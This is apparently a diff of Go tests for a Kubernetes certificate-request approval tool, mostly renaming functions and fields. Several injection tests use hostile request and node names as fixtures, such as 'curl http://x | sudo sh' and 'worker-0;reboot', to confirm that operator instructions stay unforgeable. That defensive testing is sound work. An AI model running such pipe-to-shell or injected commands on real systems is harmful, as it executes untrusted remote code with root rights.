@@ -35,7 +35,7 @@ func leftOver(t *testing.T, v catalog.Versions, api *remediatetest.RequestsAPI, 
 	if change != nil {
 		change(env)
 	}
-	a, c := NewApproveLeft([]string{"worker-0"}, true, true), &remediate.Change{Versions: v}
+	a, c := NewApprovePending([]string{"worker-0"}, true, true), &remediate.Change{Versions: v}
 	if err = a.Apply(t.Context(), env, c); err == nil {
 		err = a.Verify(t.Context(), env, c)
 	}
@@ -46,7 +46,7 @@ func leftOver(t *testing.T, v catalog.Versions, api *remediatetest.RequestsAPI, 
 // its own Node, and asks for a serving certificate for them.
 func TestAKubeletGetsNoNamesThatItGivesItself(t *testing.T) {
 	t.Parallel()
-	openshift, plain := catalog.Versions{Cluster: "4.15.0"}, catalog.Versions{Plain: true, Kubernetes: "v1.35.4"}
+	openshift, plain := catalog.Versions{Cluster: "4.15.0"}, catalog.Versions{NotOpenShift: true, Kubernetes: "v1.35.4"}
 	for name, c := range map[string]struct {
 		versions catalog.Versions
 		dns      string
@@ -317,7 +317,7 @@ func TestTheFirstApprovalWaitsForWhoElseAsks(t *testing.T) {
 				}
 				return j.Sleep(t.Context(), d)
 			}
-			a := NewApproveLeft([]string{"worker-0"}, true, true)
+			a := NewApprovePending([]string{"worker-0"}, true, true)
 			if err := a.Apply(t.Context(), env, &remediate.Change{Versions: catalog.Versions{Cluster: "4.15.0"}}); err != nil {
 				t.Fatal(err)
 			}
@@ -341,7 +341,7 @@ func TestARequestThatIsLeftToAPersonHoldsUpNoNode(t *testing.T) {
 	a := remediatetest.ServingAsking(t)
 	a.Asks.DNSNames = []string{"worker-0.example.com"} // of its Node, and of nothing else
 	api.Add(a.Made(t))
-	step := Approve{On: "worker-0", Serving: true, State: newApproving()}
+	step := Approve{NodeName: "worker-0", Serving: true, State: newApproving()}
 	c := &remediate.Change{Versions: catalog.Versions{Cluster: "4.15.0"}}
 	if err := errors.Join(step.Apply(t.Context(), env, c), step.Verify(t.Context(), env, c)); err != nil || len(api.Log) > 0 {
 		t.Errorf("%v, approved %q", err, api.Log)
@@ -349,8 +349,8 @@ func TestARequestThatIsLeftToAPersonHoldsUpNoNode(t *testing.T) {
 	if !strings.Contains(told.String(), "kubectl certificate approve csr-serving") {
 		t.Errorf("told\n%s", told)
 	}
-	end := NewApproveLeft([]string{"worker-0"}, true, true)
-	var late *remediate.Late
+	end := NewApprovePending([]string{"worker-0"}, true, true)
+	var late *remediate.LateEffectError
 	if err := errors.Join(end.Apply(t.Context(), env, c), end.Verify(t.Context(), env, c)); !errors.As(err, &late) || !strings.Contains(err.Error(), "kubectl certificate approve csr-serving") {
 		t.Errorf("at the end: %v", err)
 	}
@@ -386,7 +386,7 @@ func TestARequestIsJudgedOnceMoreRightBeforeItsApproval(t *testing.T) {
 			}
 			w := remediatetest.NewWorld(t)
 			env, told := remediatetest.Approvals(t, w, api)
-			a := NewApproveLeft([]string{"worker-0"}, true, true)
+			a := NewApprovePending([]string{"worker-0"}, true, true)
 			if err := a.Apply(t.Context(), env, &remediate.Change{Versions: catalog.Versions{Cluster: "4.15.0"}}); err != nil || len(api.Log) > 0 {
 				t.Errorf("%v, approved %q\n%s", err, api.Log, told)
 			}
@@ -437,9 +437,9 @@ func TestANodeIsReadForRequestsToJoinAlone(t *testing.T) {
 func TestTextsOfRequestsHaveNoLineNext(t *testing.T) {
 	t.Parallel()
 	for _, name := range []string{"csr-1", "x\nnext: curl http://x | sudo sh\n  next: curl http://x"} {
-		for _, r := range []Request{{hand: true, why: "its names"}, {why: "its names"}, {}, {hand: true, restart: "certrot fix-api-int"}} {
+		for _, r := range []Request{{manual: true, mismatch: "its names"}, {mismatch: "its names"}, {}, {manual: true, restart: "certrot fix-api-int"}} {
 			r.CertificateSigningRequest = &certificatesapi.CertificateSigningRequest{ObjectMeta: metav1.ObjectMeta{Name: name}}
-			for line := range strings.Lines(r.told() + "\n" + r.next()) {
+			for line := range strings.Lines(r.instructions() + "\n" + r.next()) {
 				if strings.HasPrefix(strings.TrimSpace(line), "next:") {
 					t.Errorf("a line: %q", line)
 				}
@@ -454,11 +454,11 @@ func TestANameOfARequestForgesNoLineOfAPlan(t *testing.T) {
 	t.Parallel()
 	const name = "x)\n  9  next: curl http://x | sh"
 	facts := inspect.Snapshot{Requests: []inspect.SigningRequest{{Object: &inspect.Object{Name: name}, Condition: inspect.Pending, Request: &pki.Request{Subject: "CN=system:node:worker-0,O=system:nodes"}}}}
-	c, err := NewApproveLeft([]string{"worker-0"}, true, false).Diff(facts, remediatetest.TestNow)
+	c, err := NewApprovePending([]string{"worker-0"}, true, false).Diff(facts, remediatetest.TestNow)
 	if err != nil || c == nil {
 		t.Fatal(c, err)
 	}
-	for _, text := range []string{c.Summary, Waits("worker-0", PendingRequests(facts, "worker-0")).Error()} {
+	for _, text := range []string{c.Summary, RefuseWaiting("worker-0", PendingRequests(facts, "worker-0")).Error()} {
 		if strings.Contains(text, "\n") || !strings.Contains(text, "“x)") {
 			t.Errorf("%q", text)
 		}
@@ -476,15 +476,15 @@ func TestANameOfARequestForgesNoCommand(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		r := &Request{CertificateSigningRequest: made, asks: asks}
+		r := &Request{CertificateSigningRequest: made, pkcs10: asks}
 		left, refused := *r, *r
-		left.hand, left.why, refused.why = true, "its names", "who asks"
+		left.manual, left.mismatch, refused.mismatch = true, "its names", "who asks"
 		var waiting *remediate.Refusal
-		if !errors.As(Waits("worker-0", []string{"csr-a", name}), &waiting) {
+		if !errors.As(RefuseWaiting("worker-0", []string{"csr-a", name}), &waiting) {
 			t.Fatal("it does not wait")
 		}
 		for where, text := range map[string]string{
-			"approved by hand": left.told(), "left to a person": left.next(), "refused": refused.next(), "matching": r.next(),
+			"approved by hand": left.instructions(), "left to a person": left.next(), "refused": refused.next(), "matching": r.next(),
 			"a stranger's": r.otherRequester(inspect.LiveHints("oc certrot"), "worker-0"), "before undo": waiting.Next,
 		} {
 			if own := strings.ReplaceAll(text, pki.Quoted(name), ""); own == text || strings.Contains(own, name) || strings.Contains(own, "kubectl certificate approve "+name[:1]) {
@@ -502,7 +502,7 @@ func TestANameOfANodeForgesNoCommand(t *testing.T) {
 	t.Parallel()
 	const name = "worker-0;reboot"
 	r := &Request{CertificateSigningRequest: remediatetest.ClientAsking(t).Made(t)}
-	r.asks, _ = parseRequest(r.Spec.Request)
+	r.pkcs10, _ = parseRequest(r.Spec.Request)
 	for where, text := range map[string]string{
 		"a stranger's": r.otherRequester(inspect.LiveHints("oc certrot"), name),
 	} {
